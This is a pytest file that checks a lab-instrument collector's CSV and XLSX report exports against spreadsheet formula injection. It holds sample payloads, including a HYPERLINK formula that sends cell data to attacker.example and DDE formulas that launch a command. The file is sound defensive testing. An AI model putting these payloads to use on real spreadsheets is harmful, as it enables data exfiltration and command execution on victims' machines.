"""Formula injection: text that reaches a report (session CSVs, agents' session messages, the
registry) must never run as a formula in the evaluation office's spreadsheet (issue 17, 2)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import httpx
import openpyxl
import pytest

from jishi.collector.config import CollectorConfig
from jishi.collector.reports.output import (
    FORMULA_STARTS,
    Column,
    Sheet,
    neutralise,
    render_csv,
    render_xlsx,
)
from jishi.collector.service import start_collector

# Columns a report copies as given (service way and direction are mapped to platform codes).
HOSTILE = {
    "user": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "org": "=cmd|' /C calc'!A0",
    "contact": "@SUM(1+1)*cmd|' /C calc'!A0",
}
ADMIN = "admin-secret-for-cells"


@pytest.mark.parametrize("first", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_in_csv_and_xlsx(first: str) -> None:
    text = first + "1+1"
    sheet = Sheet("t", [Column("h", "k")], [{"k": text}, {"k": "plain"}])
    rows = list(csv.reader(io.StringIO(render_csv(sheet).decode("utf-8-sig"))))
    assert rows[1] == ["'" + text]
    assert rows[2] == ["plain"]
    book = render_xlsx([sheet])
    cell = openpyxl.load_workbook(io.BytesIO(book))["t"]["A2"]
    # Exactly as typed, a lone CR included (lxml writes it as a character reference).
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml")


def test_ordinary_text_is_left_alone() -> None:
    for text in ("核磁共振", "a=b", "1-2", "user@example.org", ""):
        assert neutralise(text) == text


def test_hostile_session_cells_come_out_of_the_service_records_inert(tmp_path: Path) -> None:
    config = CollectorConfig.model_validate(
        {
            "data_dir": str(tmp_path / "collector"),
            "api": {"port": 0},
            "instruments": [{"id": "nmr-1", "name": "核磁", "unit": "化学学院"}],
        }
    )
    collector = start_collector(config, admin_token=ADMIN, ingest=False)
    try:
        with httpx.Client(
            base_url=str(collector.api_url), headers={"Authorization": f"Bearer {ADMIN}"}
        ) as api:
            _import_hostile_session(api)
            xlsx = api.get(
                "/api/v1/reports/service-records", params={"year": 2025, "format": "xlsx"}
            )
            table = api.get(
                "/api/v1/reports/service-records", params={"year": 2025, "format": "csv"}
            )
    finally:
        collector.stop()
    assert xlsx.status_code == 200, xlsx.text
    assert table.status_code == 200, table.text
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    cells = [c for row in book.worksheets[0].iter_rows(min_row=2) for c in row]
    shown = {c.value for c in cells}
    assert set(HOSTILE.values()) <= shown  # every hostile text is there, exactly as given
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(n) for n in sheets)
    rows = list(csv.reader(io.StringIO(table.content.decode("utf-8-sig"))))
    written = {cell for row in rows[1:] for cell in row}
    for text in HOSTILE.values():
        assert "'" + text in written
        assert text not in written


def _import_hostile_session(api: httpx.Client) -> None:
    header = "instrument,start,end,user_type," + ",".join(HOSTILE)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header.split(","))
    writer.writerow(
        ["nmr-1", "2025-03-03 09:00", "2025-03-03 11:00", "external", *HOSTILE.values()]
    )
    response = api.post(
        "/api/v1/sessions/import",
        content=buffer.getvalue().encode("utf-8"),
        headers={"Content-Type": "text/csv"},
    )
    assert response.status_code == 200, response.text
